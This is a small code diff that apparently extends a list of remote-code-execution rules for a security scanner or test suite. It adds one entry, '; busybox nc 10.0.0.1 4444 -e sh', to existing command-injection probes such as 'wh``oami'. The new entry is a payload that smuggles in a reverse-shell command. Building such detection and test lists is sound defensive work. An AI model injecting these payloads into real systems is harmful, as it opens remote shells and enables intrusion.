@@ -51,6 +51,7 @@ export const RCE_RULES: Rule[] = [
       '& sleep 5',
       'wh``oami',
       'who`echo am`i',
+      '; busybox nc 10.0.0.1 4444 -e sh',
     ],
     prose: true,
     family: 'rce',
